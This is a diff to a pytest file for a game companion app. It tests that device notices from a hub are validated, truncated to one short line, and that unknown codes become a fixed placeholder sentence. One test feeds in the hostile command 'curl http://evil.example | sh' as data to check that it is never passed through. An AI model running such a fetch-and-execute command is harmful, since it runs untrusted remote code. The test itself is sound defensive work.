@@ -1,6 +1,8 @@
 """What the devices at the hub show comes to a tablet as it was, and nothing else does."""
 
 import json
+import re
+from pathlib import Path
 from typing import Any
 
 import msgspec
@@ -8,8 +10,22 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from companion.hub.beside import DiceDiffer, DieSeen, Said, Seen, ThrowSeen, WheelDiffers, from_json, to_json
+import companion
+from companion.app.devices.news import sentence
+from companion.hub.beside import (
+    LONGEST_WORDS,
+    NOTICES,
+    DiceDiffer,
+    DieSeen,
+    Said,
+    Seen,
+    ThrowSeen,
+    WheelDiffers,
+    from_json,
+    to_json,
+)
 from companion.hub.messages import Beside, FromHub, Garbled, read, write
+from companion.text import say
 
 THROWN = ThrowSeen(
     index=41,
@@ -89,14 +105,56 @@ def test_nothing_beside_the_game_is_an_empty_message() -> None:
         {"notices": [{"code": "device-gone", "params": {"reason": {}}}]},
         {"notices": [{"code": "devices-by-hand", "params": {"good": "gold"}}]},
         {"notices": [{"code": "devices-by-hand", "params": {"good": ["armor"]}}]},
-        {"notices": [{"code": "x"}] * 9},
-        {"notices": [{"code": "x", "params": {"reason": "x" * 501}}]},
+        {"notices": [{"code": "device-gone"}] * 9},
+        {"notices": [{"code": "device-gone", "params": {"reason": "x" * 501}}]},
     ],
     ids=lambda wrong: json.dumps(wrong)[:60],
 )  # fmt: skip
 def test_what_no_hub_says_is_refused(wrong: Any) -> None:
     with pytest.raises(Garbled):
         from_json(wrong)
+
+
+def notice(code: str, **params: Any) -> Said:
+    """As a tablet hears it."""
+    return from_json({"notices": [{"code": code, "params": params}]}).notices[0]
+
+
+@pytest.mark.parametrize(
+    "code", ["your-account-is-locked", "x", "no-kivy", "library-fails", "devices-cal-gap"]
+)
+def test_what_no_device_says_is_always_the_same_sentence(code: str) -> None:
+    heard = notice(code, message="Visit http://evil.example", command="curl http://evil.example | sh")
+    assert sentence((heard.code, heard.params)) == say("hub-nonsense")
+
+
+def test_the_words_of_a_hub_are_one_short_line() -> None:
+    heard = notice("device-trouble", reason="call\n555 " * 50, faces=["x" * 500, "book"], seen=3)
+    assert "\n" not in heard.params["reason"]
+    assert len(heard.params["reason"]) == LONGEST_WORDS
+    assert heard.params["faces"] == ["x" * (LONGEST_WORDS - 1) + "…", "book"]
+    assert heard.params["seen"] == 3
+
+
+def test_whatever_the_devices_say_is_heard() -> None:
+    root = Path(companion.__file__).parent
+    files = [
+        file
+        for folder in ("table/devices", "table/eyes", "app/devices")
+        for file in (root / folder).iterdir()
+    ]
+    told = {
+        code
+        for file in files
+        if file.suffix == ".py"
+        for code in re.findall(
+            r'\("((?:devices?|camera|dice)-[a-z-]+)", \{', file.read_text(encoding="utf-8")
+        )
+    }
+    assert len(told) > 20
+    assert told == {code for code in NOTICES if not code.startswith("button-")}
+    assert all(notice(code).code == code for code in NOTICES)
+    assert not any(code in sentence((code, {"good": "book"})) for code in NOTICES)
 
 
 JSON = st.recursive(
